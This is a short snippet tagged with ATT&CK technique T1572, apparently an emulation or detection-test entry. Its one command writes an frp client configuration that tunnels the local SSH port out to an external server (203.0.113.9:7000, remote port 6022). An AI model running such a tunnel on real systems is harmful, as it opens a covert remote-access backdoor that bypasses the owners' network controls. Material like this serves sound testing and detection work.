# technique: T1572
# location: linux.remote.tunnel
# source: /etc/frp/frpc.toml
install -D -m 600 /dev/stdin /etc/frp/frpc.toml <<< 'serverAddr = "203.0.113.9"
serverPort = 7000
[[proxies]]
name = "s"
type = "tcp"
localIP = "127.0.0.1"
localPort = 22
remotePort = 6022'
